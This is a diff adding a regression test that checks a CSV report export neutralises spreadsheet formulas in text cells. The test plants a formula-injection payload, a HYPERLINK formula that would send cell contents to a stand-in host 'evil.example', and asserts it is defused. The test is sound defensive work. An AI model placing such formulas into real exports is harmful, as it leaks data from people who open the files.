@@ -230,6 +230,19 @@ def test_it_exports_the_same_figures_as_csv(signed_in):
     assert "relations on 31 December" in en
 
 
+def test_the_csv_defuses_formulas_in_every_text_cell(signed_in, demo):
+    """Issue 12 #10: a decision's reference `=HYPERLINK(…)` was a live formula in Excel."""
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
+    relation = Relation.objects.filter(organisation=demo).first()
+    Decision.objects.create(
+        relation=relation, body=DecidingBody.values[0], date="2010-05-01", reference=attack
+    )
+    text = signed_in.get("/sv/reports/halmstad/2010.csv").content.decode().lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + attack in cells
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+
+
 def grow_register(org, n: int, first: int = 0) -> None:
     """n more partners, each with an agreement, a decision, funding and two activities."""
     kind = AgreementKind.objects.get(code="samarbetsavtal")
